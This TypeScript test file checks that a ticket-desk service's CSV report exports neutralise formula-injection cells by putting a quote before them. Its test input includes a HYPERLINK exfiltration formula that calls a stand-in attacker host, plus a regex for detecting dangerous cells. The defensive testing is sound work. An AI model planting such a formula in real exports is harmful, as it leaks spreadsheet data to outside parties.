import { adminToken } from '../../support/admin-token.js';
import { api } from '../../support/api-client.js';
import { createStaff } from '../../support/create-staff.js';
import { faultReport, startTicketDesk, type TicketDesk } from '../tickets/ticket-desk.fixture.js';
import { parseCsv } from './parse-csv.js';

/**
 * CSV formula injection (OWASP "CSV Injection"): text a user typed that starts with `=`, `+`, `-`,
 * `@`, a tab or a carriage return would run as a formula in a spreadsheet. Every CSV export must
 * write such a cell with a `'` before it. For each prefix, one customer, engineer, contract and
 * ticket carry it in every text they can reach a CSV with; then every CSV route is read. The
 * service trims the texts it records, so a tab or CR arrives as OWASP describes it, before an `=`
 * (the writer's own handling of a leading tab or CR is in csv-text.spec.ts).
 */
const PREFIXES = ['=', '+', '-', '@', '\t=', '\r='];
const PAYLOAD = 'HYPERLINK("http://attacker.example/?leak="&A1,"click")';
/** A cell a spreadsheet would read as a formula; a negative number is just a number. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

describe('CSV exports neutralise cells that start like a formula', () => {
  let desk: TicketDesk;
  let position = '0';
  const customers: string[] = [];
  const month = new Date(Date.now() + 8 * 3_600_000).toISOString().slice(0, 7); // Asia/Shanghai

  beforeAll(async () => {
    desk = await startTicketDesk();
    const token = await adminToken(desk.app);
    for (const [i, p] of PREFIXES.entries()) {
      const customer = await desk.admin.post('/api/customers', {
        name: `${p}Customer ${i} (fictional)`,
        contacts: [{ name: 'Dr. Example', phone: '010-0000-0101' }],
      });
      expect(customer.status).toBe(201);
      customers.push(customer.body.id);
      const engineer = await createStaff(desk.app.baseUrl, token, {
        role: 'engineer',
        displayName: `${p}Engineer ${i}`,
      });
      const contract = await desk.admin.post('/api/contracts', {
        customerId: customer.body.id,
        name: `${p}Contract ${i}`,
        product: { name: `${p}Product ${i}`, version: `${p}1.${i}` },
        acceptanceDate: '2026-01-15',
        timeZone: 'Asia/Shanghai',
        inspectionExpertId: engineer.id,
      });
      expect(contract.status).toBe(201);
      const ticket = await desk.agent.post(
        '/api/tickets',
        faultReport(contract.body.id, { description: `${p}${PAYLOAD}` }),
      );
      expect(ticket.status).toBe(201);
      const responded = await api(desk.app.baseUrl, engineer.token).post(
        `/api/tickets/${ticket.body.id}/responses`,
        {
          mode: 'remote',
          note: `${p}note`,
        },
      );
      expect(responded.status).toBe(200);
      position = responded.body.position;
    }
  }, 120_000);
  afterAll(() => desk?.close());

  async function csv(path: string): Promise<string[][]> {
    const separator = path.includes('?') ? '&' : '?';
    const response = await fetch(`${desk.app.baseUrl}${path}${separator}format=csv&after=${position}`, {
      headers: { authorization: `Bearer ${desk.manager.token}` },
    });
    expect({ path, status: response.status }).toEqual({ path, status: 200 });
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    return parseCsv((await response.text()).replace(/^\uFEFF/, ''));
  }

  const routes = () => [
    `/api/reports/sla?period=${month}&groupBy=customer`,
    `/api/reports/sla?period=${month}&groupBy=contract`,
    `/api/reports/sla?period=${month}&groupBy=engineer`,
    `/api/reports/backlog`,
    `/api/reports/service-plan?from=${month}&to=${month}`,
    ...customers.map((c) => `/api/reports/maintenance?customer=${c}&period=${month}`),
  ];

  it('writes no cell that a spreadsheet would run, in any CSV route', async () => {
    for (const path of routes()) {
      const cells = (await csv(path)).flat();
      expect({ path, live: cells.filter(dangerous) }).toEqual({ path, live: [] });
    }
  });

  it('keeps the text, with a quote before it, for every prefix', async () => {
    const seen = new Set<string>();
    for (const path of routes()) for (const cell of (await csv(path)).flat()) seen.add(cell);
    for (const [i, p] of PREFIXES.entries()) {
      for (const text of [
        `${p}Customer ${i} (fictional)`,
        `${p}Engineer ${i}`,
        `${p}Contract ${i}`,
        `${p}Product ${i}`,
        `${p}${PAYLOAD}`,
      ]) {
        const cell = `'${text.trimStart()}`;
        expect({ text, present: seen.has(cell) }).toEqual({ text, present: true });
      }
    }
  });
});
